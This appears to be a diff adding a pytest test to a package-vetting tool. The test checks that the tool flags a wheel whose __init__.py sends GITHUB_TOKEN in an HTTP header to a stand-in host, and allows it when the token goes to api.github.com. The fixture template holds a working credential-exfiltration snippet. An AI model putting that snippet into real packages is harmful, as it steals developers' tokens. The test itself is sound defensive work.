@@ -5,8 +5,11 @@ from __future__ import annotations
 
 import pytest
 
+from airlock.domain.requests import Outcome
 from airlock.imports.packages.signin import SIGNED, registered, service_of, settle, signed
 from airlock.imports.packages.sinks import ENV, SECRET
+from airlock.imports.packages.vet import VetReport, vet
+from scripts.make_test_packages import wheel
 
 
 @pytest.mark.parametrize(
@@ -48,3 +51,23 @@ def test_a_signed_credential_to_its_service_carries_nothing_and_elsewhere_a_secr
     }
     assert settle("network", "", labels) == {SECRET}
     assert settle("process", "curl", labels) == {ENV}
+
+
+def _vet_init(text: str) -> VetReport:
+    return vet("evpkg-1.0-py3-none-any.whl", wheel("evpkg", "1.0", {"evpkg/__init__.py": text}))
+
+
+HEADED = (
+    "import os\nfrom urllib.request import Request, urlopen\nr = Request('{url}')\n"
+    "r.add_header('{header}', 'token ' + os.environ['GITHUB_TOKEN'])\nurlopen(r)\n"
+)
+
+
+def test_a_header_added_to_a_request_carries_the_credential_it_is_given() -> None:
+    """``add_header`` carried nothing: a token sent in any header was plain traffic."""
+    away = HEADED.format(url="https://example.invalid/x", header="X-Data")
+    assert _vet_init(away).verdict is Outcome.DENY
+    stolen = HEADED.format(url="https://example.invalid/x", header="Authorization")
+    assert _vet_init(stolen).verdict is Outcome.DENY
+    signing_in = HEADED.format(url="https://api.github.com/user", header="Authorization")
+    assert _vet_init(signing_in).verdict is not Outcome.DENY
